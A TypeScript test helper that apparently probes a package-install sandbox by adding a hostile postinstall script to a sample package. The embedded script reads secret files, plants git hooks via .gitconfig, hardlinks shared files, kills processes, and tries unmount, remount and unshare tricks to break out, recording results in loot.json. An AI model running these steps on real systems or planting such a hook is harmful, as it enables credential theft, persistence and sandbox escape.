import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";

/** What a hostile install script knows of the host that it is after. */
export interface Prey {
  /** Files that it wants to read: environments with secrets, and what else is the same user's. */
  readonly files: readonly string[];
  /** Directories whose content it wants to know. */
  readonly directories: readonly string[];
  /** Files that it wants to make or change. */
  readonly writes: readonly string[];
  /** Ids of processes that it wants to end. */
  readonly processes: readonly number[];
  /** Unix sockets that it wants to speak to. */
  readonly sockets: readonly string[];
  /** Mount points that it wants to get rid of. */
  readonly mounts: readonly string[];
}

/** What it managed, by attempt: what it got, or null for nothing. */
export type Loot = Readonly<Record<string, string | null>>;

/** File of the release that the {@link Loot} is in. */
export const LOOT_FILE = "loot.json";

/** An edit of the plain sample whose `postinstall` tries all of it, and leaves {@link LOOT_FILE}. */
export function hostileInstall(prey: Prey): (directory: string) => void {
  return (directory) => {
    const name = join(directory, "package.json");
    const manifest = JSON.parse(readFileSync(name, "utf8")) as { scripts: Record<string, string> };
    manifest.scripts["postinstall"] = "node hostile.js";
    writeFileSync(name, JSON.stringify(manifest));
    writeFileSync(join(directory, "hostile.js"), `const prey = ${JSON.stringify(prey)};\n${PROGRAM}`);
  };
}

// In the host's words, for it runs there; errors are told by their codes in the loot's shadow, `refused`.
const PROGRAM = String.raw`
const fs = require("node:fs");
const net = require("node:net");
const path = require("node:path");
const { spawnSync } = require("node:child_process");
const loot = {};
const refused = {};
async function attempt(name, work) {
  try {
    loot[name] = (await work()) ?? null;
  } catch (error) {
    loot[name] = null;
    refused[name] = error.code ?? error.message;
  }
}
const shell = (script, ...args) => spawnSync("sh", ["-c", script, "sh", ...args], { encoding: "utf8" });
const strangers = () =>
  fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name)).flatMap((pid) => {
    try {
      const text = ["cmdline", "environ"].map((file) => fs.readFileSync(path.join("/proc", pid, file), "utf8")).join(" ");
      return /PM2_HOME|launcher\.js|conductor|nginx/.test(text) ? [pid + " " + text] : [];
    } catch {
      return [];
    }
  });
async function main() {
  await attempt("own directory", () => { fs.writeFileSync("made", ""); return "written"; });
  await attempt("own home", () => {
    const hooks = path.join(process.env.HOME, "hooks");
    fs.mkdirSync(hooks, { recursive: true });
    fs.writeFileSync(path.join(hooks, "reference-transaction"), "#!/bin/sh\ntouch /var/tmp/hook-ran\n", { mode: 0o755 });
    fs.writeFileSync(path.join(process.env.HOME, ".gitconfig"), "[core]\n\thooksPath = " + hooks + "\n");
    return "written";
  });
  // As pnpm and bun share files by default: what a later build changes there would change what serves by then.
  await attempt("link a file that stays in its home", () => {
    const kept = path.join(process.env.HOME, "kept");
    fs.writeFileSync(kept, "");
    fs.linkSync(kept, "linked");
    return "linked";
  });
  await attempt("temporary file", () => {
    for (const directory of ["/tmp", "/var/tmp", "/dev/shm"]) fs.writeFileSync(path.join(directory, "left-by-install"), "");
    return "written";
  });
  await attempt("user", () => shell("id -u -n; grep -E '^(Cap(Eff|Prm|Amb)|NoNewPrivs)' /proc/self/status").stdout);
  const take = async (how) => {
    for (const file of prey.files) await attempt(how + "read " + file, () => fs.readFileSync(file, "utf8"));
    for (const file of prey.writes) await attempt(how + "write " + file, () => { fs.appendFileSync(file, "\n"); return "written"; });
    for (const directory of prey.directories) {
      // What is kept for a build may have to be below it.
      await attempt(how + "list " + directory, () => fs.readdirSync(directory).join(" ") || null);
    }
    for (const socket of prey.sockets) {
      await attempt(how + "speak to " + socket, () => new Promise((resolve, reject) => {
        const wire = net.connect(socket, () => { wire.destroy(); resolve("connected"); });
        wire.on("error", reject);
      }));
    }
    await attempt(how + "see processes", () => strangers().join("\n") || null);
  };
  await take("");
  // By number, too. A thread of its own may have one of these numbers.
  for (const pid of prey.processes) {
    await attempt("end " + pid, () => {
      if (fs.existsSync("/proc/" + pid) && !strangers().some((text) => text.startsWith(pid + " "))) return null;
      process.kill(pid, "SIGTERM");
      return "ended";
    });
  }
  for (const mount of prey.mounts) {
    await attempt("umount " + mount, () => shell('umount "$1" && echo done', mount).stdout || null);
    await attempt("remount " + mount, () => shell('mount -o remount,bind,rw "$1" && echo done', mount).stdout || null);
  }
  // Whoever may make a user namespace is root in it.
  const undo = 'for m; do umount -l "$m"; mount -o remount,bind,rw "$m"; done; cat $FILES; touch $WRITES && echo written';
  await attempt("undo the walls as root of a user namespace", () =>
    spawnSync("unshare", ["--user", "--map-root-user", "--mount", "sh", "-c", undo, "sh", ...prey.mounts], {
      encoding: "utf8",
      env: { ...process.env, FILES: prey.files.join(" "), WRITES: prey.writes.join(" ") },
    }).stdout || null,
  );
  await take("then ");
  fs.writeFileSync("LOOT", JSON.stringify({ loot, refused }));
}
main();
`.replace("LOOT", LOOT_FILE);
